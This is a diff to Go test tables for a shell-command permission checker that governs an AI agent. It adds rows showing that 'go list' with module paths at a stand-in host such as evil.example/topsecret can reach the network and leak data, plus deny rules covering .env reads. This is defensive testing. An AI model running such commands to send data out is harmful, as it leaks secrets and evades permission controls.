@@ -8,6 +8,10 @@ import "testing"
 // wget 1.21 against a local HTTP server on 127.0.0.1, OpenSSH 9.2); every
 // row is decided by both evaluators, which must agree.
 
+// red17netExt has the extended command tables and no allow rule: only
+// read-only detection approves.
+const red17netExt = `{"agentctl":{"commands":"extended"},"permissions":{"deny":["Read(.env)"]}}`
+
 // red17netPrefix approves the clients by prefix, for one host.
 const red17netPrefix = `{"permissions":{"deny":["Read(.env)","Read(//srv/keys/**)"],` +
 	`"allow":["Bash(curl https://api.example.com/*)","Bash(wget https://dl.example.com/*)","Bash(ssh prod:*)"]}}`
@@ -69,6 +73,29 @@ var red17netClasses = map[string][]shellRow{
 		{red17netPrefix, "default", `wget https://dl.example.com/x --warc-cdx`, "allow"},
 		{red17netPrefix, "default", `ssh prod uptime`, "allow"},
 		{red17netPrefix, "default", `ssh prod -v uptime`, "allow"},
+	},
+	"n17-3 go list queries the module proxy with a path the command line chose": {
+		// go 1.26 with GOPROXY at a local server: go list -m P@latest sent
+		// GET /P/@latest, -m P@v1.0.0 /P/@v/v1.0.0.info, -m -versions P
+		// /P/@v/list, -mod=mod P /P/@latest; the default GOPROXY falls
+		// back to "direct", the host P names.
+		{red17netExt, "default", `go list -m -json evil.example/topsecret@latest`, "ask"},
+		{red17netExt, "default", `go list -m evil.example/x@v1.0.0`, "ask"},
+		{red17netExt, "default", `go list -m -versions evil.example/topsecret`, "ask"},
+		{red17netExt, "default", `go list -m -retracted golang.org/x/text`, "ask"},
+		{red17netExt, "default", `go list -mod=mod evil.example/topsecret`, "ask"},
+		{red17netExt, "default", `go vet -mod=mod ./...`, "ask"},
+		{red17netExt, "default", `timeout 9 go list -m evil.example/x@none`, "ask"},
+		{red17netExt, "dontAsk", `go list -m evil.example/x@latest`, "deny"},
+		// Neighbours: the module's own packages and build list, offline.
+		{red17netExt, "default", `go list ./...`, "allow"},
+		{red17netExt, "default", `go list -json ./...`, "allow"},
+		{red17netExt, "default", `go list -m all`, "allow"},
+		{red17netExt, "default", `go list -m -json all`, "allow"},
+		{red17netExt, "default", `go list -m -u all`, "allow"},
+		{red17netExt, "default", `go list -mod=vendor ./...`, "allow"},
+		{red17netExt, "default", `go list -f '{{.Dir}}' github.com/dep/x`, "allow"},
+		{red17netExt, "default", `go vet ./...`, "allow"},
 	},
 }
 
